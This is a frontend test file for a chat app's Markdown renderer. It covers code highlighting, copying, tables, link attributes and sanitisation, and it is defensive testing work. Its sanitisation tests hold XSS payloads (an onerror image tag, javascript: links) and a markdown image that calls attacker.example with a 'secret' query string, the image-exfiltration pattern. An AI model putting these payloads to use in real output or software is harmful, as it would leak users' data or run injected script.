import { cleanup, render, screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { Markdown } from './Markdown.tsx';

afterEach(cleanup);

describe('Markdown', () => {
  it('highlights a fenced code block in the language it names and labels it', async () => {
    const { container } = render(<Markdown text={'```ts\nconst answer: number = 42;\n```'} />);

    expect(screen.getByText('ts')).toBeTruthy();
    await waitFor(() => expect(container.querySelector('.hljs-keyword')?.textContent).toBe('const'));
    expect(container.querySelector('pre code.hljs.language-ts')).toBeTruthy();
  });

  it('copies the code of a block, without the toolbar', async () => {
    const user = userEvent.setup();
    const writeText = vi.spyOn(navigator.clipboard, 'writeText');
    render(<Markdown text={'```sh\nnpm run dev\n```'} />);

    await user.click(screen.getByRole('button', { name: 'Copy code' }));

    expect(writeText).toHaveBeenCalledWith('npm run dev\n');
    expect(await screen.findByRole('button', { name: 'Copied' })).toBeTruthy();
  });

  it('renders GitHub tables and task lists', () => {
    render(<Markdown text={'| Tool | Use |\n| --- | --- |\n| kb_lookup | search |\n\n- [x] done'} />);

    expect(screen.getByRole('table')).toBeTruthy();
    expect(screen.getByRole('cell', { name: 'kb_lookup' })).toBeTruthy();
    expect(screen.getByRole('checkbox')).toHaveProperty('checked', true);
  });

  it('opens links in a new tab without giving that tab a handle on the chat', () => {
    render(<Markdown text="See [the runbook](https://example.com/runbook)." />);

    const link = screen.getByRole('link', { name: 'the runbook' });
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('shows raw HTML as text and drops javascript: links', () => {
    const { container } = render(
      <Markdown text={'<img src=x onerror="alert(1)"> [click](javascript:alert(1))'} />,
    );

    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByText('click').getAttribute('href')).toBe('');
  });

  it('shows an image as a link naming its host, and loads nothing', () => {
    const { container } = render(
      <Markdown
        text={'Logo: ![the logo](https://attacker.example/pixel.png?q=secret) and ![](/local.png)'}
      />,
    );

    expect(container.querySelector('img')).toBeNull();
    const remote = screen.getByRole('link', { name: 'Image: the logo (attacker.example)' });
    expect(remote.getAttribute('href')).toBe('https://attacker.example/pixel.png?q=secret');
    expect(remote.getAttribute('rel')).toBe('noopener noreferrer');
    expect(screen.getByRole('link', { name: 'Image: untitled' }).getAttribute('href')).toBe('/local.png');
  });

  it('shows an image with an unsafe URL as a plain label', () => {
    const { container } = render(
      <Markdown text={'![x](javascript:alert(1)) ![ref][r]\n\n[r]: data:image/png,AAAA'} />,
    );

    expect(container.querySelector('img, a')).toBeNull();
    expect(container.textContent).toContain('Image: x');
    expect(container.textContent).toContain('Image: ref');
  });
});
